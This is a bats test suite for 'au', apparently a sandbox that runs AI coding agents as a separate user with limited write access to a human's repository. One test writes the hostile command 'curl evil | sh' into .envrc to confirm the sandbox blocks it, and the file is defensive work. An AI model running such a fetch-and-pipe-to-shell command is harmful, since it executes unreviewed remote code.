#!/usr/bin/env bats
# Agents at work inside au, as alice meets them: git in her shared repository, the
# agent's own toolchain (npm, Claude Code, Codex) in its home, and full-screen programs
# through au's pseudo-terminal.
#
# One agent serves the whole file: setup_file makes it and installs Claude Code and
# Codex into it once (a download of a few hundred MB), and each test undoes only what it
# made itself. teardown_file puts the world back.

load helpers

TMUX_SOCKET=au-test
HUMAN_REPO_NAME=project

# --- The agent and its tools, once per file -------------------------------------------

setup_file() {
	in_world || return 0
	local start

	world_teardown
	fresh_config
	as_human au new --yes >"$BATS_FILE_TMPDIR/new.log" 2>&1 || {
		cat "$BATS_FILE_TMPDIR/new.log" >&3
		return 1
	}
	# Where a proxy re-signs TLS with a CA of its own, alice's npm trusts it through
	# the system's npmrc (cafile), which 'npm install -g --prefix ~/.local' does not
	# read: the prefix moves npm's global config to ~/.local/etc/npmrc. Node takes the
	# system bundle this way; where nothing re-signs, it changes nothing. The README
	# says the same.
	if [[ -r /etc/ssl/certs/ca-certificates.crt ]]; then
		as_human au env set NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt >/dev/null
	fi

	# Whether the npm registry is reachable at all, asked as alice would.
	if ! as_human npm view is-number version >"$BATS_FILE_TMPDIR/npm-view.log" 2>&1; then
		touch "$BATS_FILE_TMPDIR/npm-unreachable"
		return 0
	fi
	start=$SECONDS
	as_human au run -- bash -c \
		'npm install -g --prefix ~/.local @anthropic-ai/claude-code @openai/codex' \
		>"$BATS_FILE_TMPDIR/npm-install.log" 2>&1
	echo "$?" >"$BATS_FILE_TMPDIR/npm-install.status"
	echo "$((SECONDS - start))" >"$BATS_FILE_TMPDIR/npm-install.seconds"
}

teardown_file() {
	world_teardown
}

setup() {
	require_world
	getent passwd agent >/dev/null || fail "setup_file did not make the agent: $(cat "$BATS_FILE_TMPDIR/new.log")"
}

# Only what a test made: the agents live on for the next test of this file.
teardown() {
	local home
	home=$(human_home)

	as_human tmux -L "$TMUX_SOCKET" kill-server >/dev/null 2>&1 || true
	if [[ -d ${home:?}/$HUMAN_REPO_NAME ]]; then
		as_human au mount remove "$home/$HUMAN_REPO_NAME" >/dev/null 2>&1 || true
	fi
	rm -rf -- "${home:?}/$HUMAN_REPO_NAME" "$home/.gitconfig" "$home"/stty.*
	rm -rf -- /home/agent/project-wt /home/agent/.cache/x /home/agent/.codex
	if getent passwd bob >/dev/null; then
		as_human au delete -a bob --delete-home --yes >/dev/null 2>&1 || true
	fi
}

# The tools are there, or the test says why not. CI reaches the npm registry, so
# there (AU_TESTS_MUST_WORK=1) an unreachable registry is a failure, not a skip.
require_agent_tools() {
	if [[ -e $BATS_FILE_TMPDIR/npm-unreachable ]]; then
		local why
		why="the npm registry is unreachable ('npm view is-number version' as $AU_HUMAN: $(tail -n 1 "$BATS_FILE_TMPDIR/npm-view.log"))"
		if [[ ${AU_TESTS_MUST_WORK:-} == 1 ]]; then
			fail "$why, and AU_TESTS_MUST_WORK=1"
		fi
		skip "$why"
	fi
	if [[ $(cat "$BATS_FILE_TMPDIR/npm-install.status") != 0 ]]; then
		cat "$BATS_FILE_TMPDIR/npm-install.log"
		fail "npm install as the agent failed"
	fi
}

# --- Git in alice's shared repository ---------------------------------------------------

# alice's repository ~/project (with what is in it already), one commit by her, shared
# read-write with the agent.
make_shared_repo() {
	as_human git config --global user.name Alice
	as_human git config --global user.email alice@example.org
	as_human sh -ec '
		mkdir -p ~/project && cd ~/project
		git init -q -b main
		echo hello >README
		git add -A
		git commit -q -m "first commit by alice"
	'
	run --separate-stderr as_human au mount add --rw "$(human_home)/$HUMAN_REPO_NAME"
	assert_success
}

# in_project CMD...: CMD as alice, from inside ~/project (where au run starts the agent
# in /home/agent/project).
in_project() {
	as_human sh -c 'cd ~/project && exec "$@"' sh "$@"
}

agent_git() {
	in_project au run -- git "$@"
}

# Nothing on standard error: no complaint from git, no warning from au.
assert_quiet() {
	assert_equal "$stderr" ""
}

@test "au new gives the agent a git identity of its own: agent (agent of alice)" {
	run --separate-stderr as_human au run git config --global user.name
	assert_success
	assert_output "agent (agent of $AU_HUMAN)"
	run --separate-stderr as_human au run git config --global user.email
	assert_success
	assert_output "agent@$(hostname)"
}

# The safe.directory entries are au's (~/.config/git/config, bound read-only, global
# scope); "git config --global --get" reads only ~/.gitconfig when it exists, so the
# tests ask every scope.
@test "au mount add --rw puts the folder in the agent's safe.directory, au mount remove takes it out" {
	run --separate-stderr as_human au run git config --get-all safe.directory
	assert_failure 1
	assert_output ""

	make_shared_repo
	run --separate-stderr as_human au run git config --show-scope --get-all safe.directory
	assert_success
	assert_line $'global\t/home/agent/project'

	run --separate-stderr as_human au mount remove "$(human_home)/$HUMAN_REPO_NAME"
	assert_success
	run --separate-stderr as_human au run git config --get-all safe.directory
	assert_failure 1
	assert_output ""
}

@test "the agent runs git in alice's repository: status, commit, branch, stash, worktree" {
	make_shared_repo

	# Each step succeeds, with no word from git (no "dubious ownership") nor from au.
	run --separate-stderr agent_git status
	assert_success
	assert_quiet
	assert_line "On branch main"

	in_project au run sh -c 'echo by the agent >agent.txt'
	run --separate-stderr agent_git add agent.txt
	assert_success
	assert_quiet
	run --separate-stderr agent_git commit -q -m "a file by the agent"
	assert_success
	assert_quiet
	run --separate-stderr agent_git log --format=%s
	assert_line --index 0 "a file by the agent"

	run --separate-stderr agent_git branch feature
	assert_success
	assert_quiet
	run --separate-stderr agent_git branch --list feature
	assert_output "  feature"

	in_project au run sh -c 'echo changed >>README'
	run --separate-stderr agent_git stash
	assert_success
	assert_quiet
	run cat "$(human_home)/$HUMAN_REPO_NAME/README"
	assert_output hello
	run --separate-stderr agent_git stash pop
	assert_success
	assert_quiet
	run cat "$(human_home)/$HUMAN_REPO_NAME/README"
	assert_output "hello
changed"

	# Beside the repository, in the agent's home, and inside the shared folder.
	run --separate-stderr agent_git worktree add -q ../project-wt
	assert_success
	assert_quiet
	run --separate-stderr agent_git worktree add -q wt-inside
	assert_success
	assert_quiet
	run --separate-stderr as_human au run -d /home/agent/project-wt git status --short --branch
	assert_success
	assert_quiet
	assert_output "## project-wt"
	run --separate-stderr agent_git worktree list
	assert_line --regexp '^/home/agent/project-wt +[0-9a-f]+ \[project-wt\]$'
	assert_line --regexp '^/home/agent/project/wt-inside +[0-9a-f]+ \[wt-inside\]$'
}

@test "alice sees the agent's commit under its name, and her git stays healthy" {
	make_shared_repo
	in_project au run sh -c 'echo by the agent >agent.txt && git add agent.txt && git commit -q -m "by the agent"'

	run --separate-stderr in_project git log -1 --format='%an <%ae>'
	assert_success
	assert_output "agent (agent of $AU_HUMAN) <agent@$(hostname)>"
	run --separate-stderr in_project git fsck --no-dangling
	assert_success
	assert_equal "$stderr" ""
	run --separate-stderr in_project git status --porcelain
	assert_success
	assert_output ""
	# And alice commits on top of it.
	run --separate-stderr in_project sh -c 'echo more >>agent.txt && git commit -q -am "alice again"'
	assert_success
}

@test "a user.name in the repository's own config wins over the agent's identity" {
	make_shared_repo
	as_human git -C "$(human_home)/$HUMAN_REPO_NAME" config user.name "Alice At Work"
	in_project au run sh -c 'git commit -q --allow-empty -m "by the agent"'

	# As git does it, and as the README says.
	run --separate-stderr in_project git log -1 --format=%an
	assert_output "Alice At Work"
}

@test "the agent cannot write alice's git hooks, .git/config, .envrc or .vscode, and still commits" {
	as_human sh -ec '
		mkdir ~/project && cd ~/project
		echo "export X=1" >.envrc
		mkdir .vscode && echo "{}" >.vscode/settings.json
	'
	make_shared_repo
	local repo
	repo=$(human_home)/$HUMAN_REPO_NAME

	# The agent writes elsewhere in .git: the folder is shared read-write.
	run --separate-stderr in_project au run sh -c 'echo x >.git/agent-was-here'
	assert_success
	assert [ -f "$repo/.git/agent-was-here" ]

	run --separate-stderr in_project au run sh -c 'echo "#!/bin/sh" >.git/hooks/pre-commit'
	assert_failure
	assert_regex "$stderr" "Read-only file system"
	assert [ ! -e "$repo/.git/hooks/pre-commit" ]

	run --separate-stderr agent_git config core.hooksPath /home/agent/hooks
	assert_failure
	run --separate-stderr in_project git config --get core.hooksPath
	assert_failure 1
	assert_output ""

	run --separate-stderr in_project au run sh -c 'echo "curl evil | sh" >>.envrc'
	assert_failure
	run --separate-stderr in_project au run sh -c 'echo "{\"x\":1}" >.vscode/settings.json'
	assert_failure
	run cat "$repo/.envrc" "$repo/.vscode/settings.json"
	assert_output "export X=1
{}"

	in_project au run sh -c 'echo by the agent >agent.txt'
	run --separate-stderr agent_git add agent.txt
	assert_success
	run --separate-stderr agent_git commit -q -m "by the agent"
	assert_success
	run --separate-stderr in_project git log -1 --format=%s
	assert_output "by the agent"
}

# --- The agent's toolchain ----------------------------------------------------------------

@test "au run finds the agent's own tools in ~/.local/bin, right after au new" {
	# A new agent: the file's own agent has ~/.local/bin already, from setup_file.
	run --separate-stderr as_human au new --yes -a bob
	assert_success
	# The login shell's /etc/profile resets PATH, and Debian's skel ~/.profile adds
	# ~/.local/bin only once the folder exists: au new makes it, and au run's login
	# command puts it on PATH if the profile did not.
	run --separate-stderr as_human au run -a bob sh -c 'echo "$PATH"'
	assert_success
	assert_regex "$output" '(^|:)/home/bob/\.local/bin(:|$)'
}

@test "what the agent caches in its home is there at the next run" {
	run --separate-stderr as_human au run sh -c 'mkdir -p ~/.cache && echo kept >~/.cache/x'
	assert_success
	run --separate-stderr as_human au run cat /home/agent/.cache/x
	assert_success
	assert_output kept
}

@test "npm installs Claude Code and Codex as the agent, into its home, and they run" {
	require_agent_tools
	echo "# npm install took $(cat "$BATS_FILE_TMPDIR/npm-install.seconds") s" >&3

	# In the agent's home, owned by it; its npm cache too.
	run stat -c '%U' /home/agent/.local/bin/claude /home/agent/.local/bin/codex /home/agent/.npm
	assert_output "agent
agent
agent"
	assert [ -d /home/agent/.npm/_cacache ]
	assert [ ! -e /usr/local/bin/claude ]

	run --separate-stderr as_human au run claude --version
	assert_success
	assert_output --regexp '^[0-9]+\.[0-9]+\.[0-9]+ \(Claude Code\)$'
	run --separate-stderr as_human au run codex --version
	assert_success
	assert_output --regexp '^codex-cli [0-9]+\.[0-9]+\.[0-9]+'
}

@test "alice signs Codex in with her API key on standard input, and au keeps no copy" {
	require_agent_tools

	run --separate-stderr as_human sh -c \
		'export OPENAI_API_KEY=sk-au-test; printenv OPENAI_API_KEY | au run -- codex login --with-api-key'
	assert_success
	# Codex says it on standard error.
	run as_human au run -- codex login status
	assert_success
	assert_output --partial "API key configured"
	run grep -c sk-au-test /home/agent/.codex/auth.json
	assert_output 1
	run grep -c sk-au-test "$(human_config)"
	assert_output 0
}

# --- Full-screen programs through au's pty, in tmux ----------------------------------------

# tmux_as_human ARGS...: tmux on alice's own server.
tmux_as_human() {
	as_human tmux -L "$TMUX_SOCKET" "$@"
}

start_terminal() {
	tmux_as_human new-session -d -s s -x 120 -y 40
	wait_for_screen "$AU_HUMAN@" 10
}

type_line() {
	tmux_as_human send-keys -t s "$1" Enter
}

# wait_for_screen REGEX [SECONDS]: poll the pane until REGEX shows, for at most SECONDS.
wait_for_screen() {
	local regex=$1 deadline=$((SECONDS + ${2:-30})) screen=

	while ((SECONDS < deadline)); do
		screen=$(tmux_as_human capture-pane -p -t s)
		if grep -qE -- "$regex" <<<"$screen"; then
			return 0
		fi
		sleep 0.5
	done
	echo "waited ${2:-30} s for /$regex/; the screen:"
	echo "$screen"
	return 1
}

# wait_for_file PATH SECONDS: poll until PATH exists.
wait_for_file() {
	local deadline=$((SECONDS + $2))

	until [[ -e $1 ]]; do
		((SECONDS < deadline)) || fail "no $1 after $2 s"
		sleep 0.2
	done
}

# A TUI on au's pty shows its screen, quits on Ctrl-C, and alice's terminal is as it was.
tui_story() {
	local command=$1 screen_regex=$2 _

	start_terminal
	type_line 'stty -g >~/stty.before'
	type_line "clear; $command; echo au-returned-\$((40 + 2))"
	wait_for_screen "$screen_regex" 60
	# Claude Code and Codex quit on Ctrl-C (Claude asks for it twice, and ignores it
	# while its first screen is still settling, which a loaded machine stretches);
	# one that has quit already leaves these to alice's shell, which ignores them.
	for _ in $(seq 20); do
		grep -q au-returned-42 <<<"$(tmux_as_human capture-pane -p -t s)" && break
		tmux_as_human send-keys -t s C-c
		sleep 1
	done
	wait_for_screen 'au-returned-42' 15
	type_line 'stty -g >~/stty.after.tmp && mv ~/stty.after.tmp ~/stty.after'
	wait_for_file "$(human_home)/stty.after" 5
	run diff "$(human_home)/stty.before" "$(human_home)/stty.after"
	assert_success
}

@test "au run -- claude in alice's terminal: Claude Code's first screen, then a clean quit" {
	require_agent_tools
	tui_story "au run -- claude" 'Welcome to Claude Code|Choose the text style|Select login method'
}

@test "as the README says: in ~/project, au run -- claude --dangerously-skip-permissions" {
	require_agent_tools
	make_shared_repo
	tui_story "cd ~/project && au run -- claude --dangerously-skip-permissions" \
		'Welcome to Claude Code|Choose the text style|Select login method'
}

@test "au run -- codex in alice's terminal: Codex's first screen, then a clean quit" {
	require_agent_tools
	tui_story "au run -- codex" 'Welcome to Codex|Sign in with ChatGPT'
}

@test "the agent's program sees alice's terminal resized" {
	start_terminal
	type_line 'au run bash'
	wait_for_screen 'agent@' 10
	type_line 'echo cols=$(tput cols)'
	wait_for_screen '^cols=120$' 10
	tmux_as_human resize-window -t s -x 100 -y 30
	type_line 'echo now=$(tput cols)x$(tput lines)'
	wait_for_screen '^now=100x30$' 10
	type_line 'exit'
	wait_for_screen "$AU_HUMAN@.*\\$ *\$" 10
}
